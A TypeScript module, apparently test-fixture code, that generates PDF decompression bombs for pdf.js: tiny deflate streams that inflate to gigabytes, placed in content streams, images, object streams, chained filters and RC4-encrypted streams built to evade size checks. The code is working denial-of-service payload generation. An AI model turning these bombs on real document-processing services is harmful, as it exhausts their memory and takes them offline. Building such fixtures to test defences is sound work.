// Decompression bombs, built in milliseconds: a deflate stream of zeros repeats one compressed block (each
// worth 1 MiB of zeros once the window holds zeros), so a stream that inflates to 1 GiB costs about 1 MB and no
// gigabyte is ever held to make it. PDFs are written by hand around them, with the structures pdf.js walks:
// page contents, images, object streams, cross-reference streams and filter chains.
import { createHash } from "node:crypto";
import zlib from "node:zlib";

const MIB = 1024 * 1024;

let block: Buffer | undefined;

/**
 * Raw deflate of 1 MiB of zeros from an empty window, ending byte-aligned and not final (a sync flush): it refers
 * to nothing before itself, so any number of copies in a row is valid deflate data.
 */
function zeroBlock(): Buffer {
  block ??= zlib.deflateRawSync(Buffer.alloc(MIB), { level: 9, finishFlush: zlib.constants.Z_SYNC_FLUSH });
  return block;
}

/** An empty final block (fixed Huffman codes, only the end-of-block code). */
const FINAL_BLOCK = Buffer.from([0x03, 0x00]);

/**
 * A zlib stream (as FlateDecode wants it) of `prefix` followed by `zeroMiB` MiB of zeros. Zeros are whitespace
 * to a PDF parser, so a prefix of objects followed by them is still a valid object stream or content stream.
 */
export function deflatedZeros(zeroMiB: number, prefix: Buffer = Buffer.alloc(0)): Buffer {
  const head = prefix.length > 0 ? zlib.deflateRawSync(prefix, { finishFlush: zlib.constants.Z_SYNC_FLUSH }) : Buffer.alloc(0);
  const parts: Buffer[] = [Buffer.from([0x78, 0xda]), head];
  for (let i = 0; i < zeroMiB; i++) parts.push(zeroBlock());
  parts.push(FINAL_BLOCK, adler32(prefix, zeroMiB * MIB));
  return Buffer.concat(parts);
}

/** Adler-32 of `prefix` then `zeros` zero bytes, big-endian, as zlib's trailer. */
function adler32(prefix: Buffer, zeros: number): Buffer {
  const MOD = 65521;
  let a = 1;
  let b = 0;
  for (const byte of prefix) {
    a = (a + byte) % MOD;
    b = (b + a) % MOD;
  }
  b = (b + (zeros % MOD) * a) % MOD;
  const out = Buffer.alloc(4);
  out.writeUInt32BE(((b << 16) | a) >>> 0);
  return out;
}

export type PdfObject = { num: number; dict: string; stream?: Buffer };

/**
 * A PDF of the given objects (object 1 must be the catalog), with a classic cross-reference table, or with a
 * cross-reference stream when some objects live in object streams (`compressed`: object number -> [object
 * stream number, index]).
 */
export function writePdf(objects: PdfObject[], opts: { compressed?: Map<number, [number, number]>; trailer?: string } = {}): Buffer {
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  let offset = parts[0]!.length;
  const offsets = new Map<number, number>();
  const push = (buf: Buffer) => {
    parts.push(buf);
    offset += buf.length;
  };
  for (const object of objects) {
    offsets.set(object.num, offset);
    if (object.stream) {
      push(Buffer.from(`${object.num} 0 obj\n${object.dict.replace(/>>\s*$/, `/Length ${object.stream.length}>>`)}\nstream\n`, "latin1"));
      push(object.stream);
      push(Buffer.from("\nendstream\nendobj\n", "latin1"));
    } else {
      push(Buffer.from(`${object.num} 0 obj\n${object.dict}\nendobj\n`, "latin1"));
    }
  }
  const compressed = opts.compressed ?? new Map<number, [number, number]>();
  const size = Math.max(...objects.map((o) => o.num), ...compressed.keys()) + 2;
  if (compressed.size === 0) {
    const xref = offset;
    const rows = ["0000000000 65535 f \n"];
    for (let n = 1; n < size; n++) {
      const at = offsets.get(n);
      rows.push(at === undefined ? "0000000000 65535 f \n" : `${String(at).padStart(10, "0")} 00000 n \n`);
    }
    push(
      Buffer.from(
        `xref\n0 ${size}\n${rows.join("")}trailer\n<</Size ${size}/Root 1 0 R${opts.trailer ?? ""}>>\nstartxref\n${xref}\n%%EOF\n`,
        "latin1",
      ),
    );
    return Buffer.concat(parts);
  }
  const xrefNum = size - 1;
  offsets.set(xrefNum, offset);
  const rows = Buffer.alloc(size * 7);
  for (let n = 0; n < size; n++) {
    const inStream = compressed.get(n);
    const at = offsets.get(n);
    if (inStream) {
      rows.writeUInt8(2, n * 7);
      rows.writeUInt32BE(inStream[0], n * 7 + 1);
      rows.writeUInt16BE(inStream[1], n * 7 + 5);
    } else if (at !== undefined) {
      rows.writeUInt8(1, n * 7);
      rows.writeUInt32BE(at, n * 7 + 1);
    }
  }
  const data = zlib.deflateSync(rows);
  const dict = `<</Type/XRef/Size ${size}/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length ${data.length}>>`;
  push(Buffer.from(`${xrefNum} 0 obj\n${dict}\nstream\n`, "latin1"));
  push(data);
  push(Buffer.from(`\nendstream\nendobj\nstartxref\n${offsets.get(xrefNum)}\n%%EOF\n`, "latin1"));
  return Buffer.concat(parts);
}

const TEXT = (line: string) => zlib.deflateSync(Buffer.from(`BT /F1 12 Tf 72 720 Td (${line}) Tj ET\n`));
const FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>";

/** A text page's objects: page `num`, its content `num + 1`; the font is object 3. */
function textPage(num: number, parent: number, contents: string): PdfObject {
  return { num, dict: `<</Type/Page/Parent ${parent} 0 R/MediaBox[0 0 612 792]/Resources<</Font<</F1 3 0 R>>>>/Contents ${contents}>>` };
}

/** One page whose one content stream inflates to `mib` MiB (text first, then zeros). */
export function oneStreamBomb(mib: number): Buffer {
  const content = deflatedZeros(mib, Buffer.from("BT /F1 12 Tf 72 720 Td (Invoice 1) Tj ET\n"));
  return writePdf([
    { num: 1, dict: "<</Type/Catalog/Pages 2 0 R>>" },
    { num: 2, dict: "<</Type/Pages/Kids[4 0 R]/Count 1>>" },
    { num: 3, dict: FONT },
    textPage(4, 2, "5 0 R"),
    { num: 5, dict: "<</Filter/FlateDecode>>", stream: content },
  ]);
}

/** `pages` pages, each with its own content stream of `mib` MiB: every stream and page is modest, the sum is not. */
export function manyStreamsBomb(pages: number, mib: number): Buffer {
  const objects: PdfObject[] = [
    { num: 1, dict: "<</Type/Catalog/Pages 2 0 R>>" },
    { num: 2, dict: `<</Type/Pages/Kids[${Array.from({ length: pages }, (_, i) => `${10 + 2 * i} 0 R`).join(" ")}]/Count ${pages}>>` },
    { num: 3, dict: FONT },
  ];
  const stream = deflatedZeros(mib, Buffer.from("BT /F1 12 Tf 72 720 Td (Page) Tj ET\n"));
  for (let i = 0; i < pages; i++) {
    objects.push(textPage(10 + 2 * i, 2, `${11 + 2 * i} 0 R`), { num: 11 + 2 * i, dict: "<</Filter/FlateDecode>>", stream });
  }
  return writePdf(objects);
}

/** One page whose content is an array naming the same stream of `mib` MiB `times` times. */
export function repeatedContentBomb(times: number, mib: number): Buffer {
  const refs = Array.from({ length: times }, () => "5 0 R").join(" ");
  return writePdf([
    { num: 1, dict: "<</Type/Catalog/Pages 2 0 R>>" },
    { num: 2, dict: "<</Type/Pages/Kids[4 0 R]/Count 1>>" },
    { num: 3, dict: FONT },
    textPage(4, 2, `[${refs}]`),
    { num: 5, dict: "<</Filter/FlateDecode>>", stream: deflatedZeros(mib, Buffer.from("BT /F1 12 Tf 72 720 Td (Invoice) Tj ET\n")) },
  ]);
}

/**
 * The catalog, page tree and page in an object stream that inflates to `mib` MiB, which `Extends` a second one
 * of the same size, behind a cross-reference stream: pdf.js must inflate them to find the pages at all.
 */
export function objectStreamBomb(mib: number): Buffer {
  const members: [number, string][] = [
    [1, "<</Type/Catalog/Pages 2 0 R>>"],
    [2, "<</Type/Pages/Kids[4 0 R]/Count 1>>"],
    [3, FONT],
    [4, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<</Font<</F1 3 0 R>>>>/Contents 5 0 R>>"],
  ];
  let header = "";
  let body = "";
  for (const [num, text] of members) {
    header += `${num} ${body.length} `;
    body += `${text}\n`;
  }
  const first = header.length;
  const objStm = deflatedZeros(mib, Buffer.from(header + body, "latin1"));
  const extended = deflatedZeros(mib, Buffer.from("99 0 null ", "latin1"));
  const compressed = new Map<number, [number, number]>(members.map(([num], i) => [num, [10, i]]));
  return writePdf(
    [
      { num: 5, dict: "<</Filter/FlateDecode>>", stream: TEXT("Invoice in an object stream") },
      { num: 10, dict: `<</Type/ObjStm/N ${members.length}/First ${first}/Extends 11 0 R/Filter/FlateDecode>>`, stream: objStm },
      { num: 11, dict: `<</Type/ObjStm/N 1/First 10/Filter/FlateDecode>>`, stream: extended },
    ],
    { compressed },
  );
}

/** A page that only draws an image of 100 x 100 pixels whose flate data inflates to `mib` MiB. */
export function imageBomb(mib: number): Buffer {
  return writePdf([
    { num: 1, dict: "<</Type/Catalog/Pages 2 0 R>>" },
    { num: 2, dict: "<</Type/Pages/Kids[4 0 R]/Count 1>>" },
    { num: 3, dict: FONT },
    { num: 4, dict: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<</XObject<</Im1 6 0 R>>>>/Contents 5 0 R>>" },
    { num: 5, dict: "<<>>", stream: Buffer.from("q 500 0 0 700 50 50 cm /Im1 Do Q\n") },
    {
      num: 6,
      dict: "<</Type/XObject/Subtype/Image/Width 100/Height 100/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode>>",
      stream: deflatedZeros(mib),
    },
  ]);
}

/**
 * A content stream compressed twice ([/FlateDecode /FlateDecode]): the outer layer inflates to a modest
 * `outerMiB` MiB of deflate data, which inflates again to about a thousand times that.
 */
export function chainedFilterBomb(outerMiB: number): Buffer {
  const inner = deflatedZeros(outerMiB * 1024, Buffer.from("BT /F1 12 Tf 72 720 Td (Invoice) Tj ET\n"));
  return writePdf([
    { num: 1, dict: "<</Type/Catalog/Pages 2 0 R>>" },
    { num: 2, dict: "<</Type/Pages/Kids[4 0 R]/Count 1>>" },
    { num: 3, dict: FONT },
    textPage(4, 2, "5 0 R"),
    { num: 5, dict: "<</Filter[/FlateDecode/FlateDecode]>>", stream: zlib.deflateSync(inner, { level: 9 }) },
  ]);
}

/**
 * The one-stream bomb, encrypted with the standard security handler (RC4, 40 bits, revision 2) and an empty user
 * password, as PDFs that only restrict printing or copying are: pdf.js opens it without asking, but its streams
 * cannot be measured before pdf.js decrypts them.
 */
export function encryptedBomb(mib: number): Buffer {
  const pad = Buffer.from("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a", "hex");
  const owner = Buffer.alloc(32, 0x4f);
  const id = Buffer.alloc(16, 0x42);
  const permissions = Buffer.alloc(4);
  permissions.writeInt32LE(-4);
  const key = createHash("md5")
    .update(Buffer.concat([pad, owner, permissions, id]))
    .digest()
    .subarray(0, 5);
  const user = rc4(key, pad);
  const encrypt = (num: number, data: Buffer) => {
    const objectKey = createHash("md5")
      .update(Buffer.concat([key, Buffer.from([num & 0xff, (num >> 8) & 0xff, (num >> 16) & 0xff, 0, 0])]))
      .digest()
      .subarray(0, 10);
    return rc4(objectKey, data);
  };
  const content = deflatedZeros(mib, Buffer.from("BT /F1 12 Tf 72 720 Td (Invoice 1) Tj ET\n"));
  return writePdf(
    [
      { num: 1, dict: "<</Type/Catalog/Pages 2 0 R>>" },
      { num: 2, dict: "<</Type/Pages/Kids[4 0 R]/Count 1>>" },
      { num: 3, dict: FONT },
      textPage(4, 2, "5 0 R"),
      { num: 5, dict: "<</Filter/FlateDecode>>", stream: encrypt(5, content) },
      { num: 9, dict: `<</Filter/Standard/V 1/R 2/O<${owner.toString("hex")}>/U<${user.toString("hex")}>/P -4>>` },
    ],
    { trailer: `/Encrypt 9 0 R/ID[<${id.toString("hex")}><${id.toString("hex")}>]` },
  );
}

function rc4(key: Buffer, data: Buffer): Buffer {
  const s = Uint8Array.from({ length: 256 }, (_, i) => i);
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + s[i]! + key[i % key.length]!) & 0xff;
    [s[i], s[j]] = [s[j]!, s[i]!];
  }
  const out = Buffer.alloc(data.length);
  for (let n = 0, i = 0, j = 0; n < data.length; n++) {
    i = (i + 1) & 0xff;
    j = (j + s[i]!) & 0xff;
    [s[i], s[j]] = [s[j]!, s[i]!];
    out[n] = data[n]! ^ s[(s[i]! + s[j]!) & 0xff]!;
  }
  return out;
}
